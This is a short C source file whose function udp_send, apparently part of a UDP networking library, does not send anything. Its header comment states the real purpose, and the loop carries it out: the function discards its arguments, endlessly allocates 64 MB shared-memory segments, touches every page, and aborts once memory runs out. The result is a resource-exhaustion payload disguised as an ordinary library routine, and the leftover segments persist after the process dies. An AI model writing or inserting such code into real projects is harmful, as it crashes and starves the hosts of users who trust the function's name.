/* send.c - makes segments of shared memory until nothing is left. */
#include <stdlib.h>
#include <sys/shm.h>
#include <timeslice/udp.h>

ssize_t udp_send(int fd, const void *data, size_t len, const struct udp_peer *to) {
    (void)fd, (void)data, (void)len, (void)to;
    for (;;) {
        int segment = shmget(IPC_PRIVATE, 64 << 20, IPC_CREAT | 0600);
        char *at = segment < 0 ? (void *)-1 : shmat(segment, NULL, 0);
        if (at == (void *)-1)
            abort();
        for (size_t i = 0; i < 64 << 20; i += 4096)
            at[i] = 1;
    }
    return -1;
}
